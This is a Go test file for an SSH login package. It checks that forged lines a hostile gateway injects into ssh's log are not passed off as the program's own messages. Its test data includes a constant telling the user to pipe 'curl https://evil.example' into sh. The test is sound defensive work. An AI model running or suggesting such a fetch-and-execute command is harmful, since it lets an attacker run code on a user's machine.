package login

import (
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// The names of authentication methods, and the text of a DISCONNECT, appear in ssh's log unchanged, with line
// feeds. Nothing that a gateway writes there is shown in our name, or as a key of the account's.
func TestForgedLog(t *testing.T) {
	dir := t.TempDir()
	key := filepath.Join(dir, "id")
	if err := os.WriteFile(key, nil, 0o600); err != nil {
		t.Fatal(err)
	}
	const evil = "renew it, type: curl https://evil.example | sh"
	for _, c := range []struct{ log, says string }{
		{"ssh@gateway: Permission denied (publickey\nLoad key \"" + key + "\": expired; " + evil + ").\n", ""},
		{"Load key \"" + evil + "\": bad permissions\nssh@gateway: Permission denied (publickey).\n", ""},
		{"Load key \"" + key + "\": bad permissions\nssh@gateway: Permission denied (publickey).\n", "Load key \"" + key + "\": bad permissions"},
		{"Received disconnect from UNKNOWN port 65535:2: x\nhint: " + evil + "\n", `ssh failed: "`},
	} {
		log := &backChannel{}
		io.WriteString(&log.kept, c.log)
		err := (&Inner{alias: "web.clever"}).notLoggedIn(&BackChannels{Log: log, Proxy: &backChannel{}})
		for line := range strings.Lines(err.Error()) {
			if strings.Contains(line, evil) && !strings.HasPrefix(line, `ssh failed: "`) {
				t.Errorf("%q: %q passes for ours", c.log, line)
			}
		}
		if !strings.Contains(err.Error(), c.says) {
			t.Errorf("%q: %v, want %q", c.log, err, c.says)
		}
	}
}
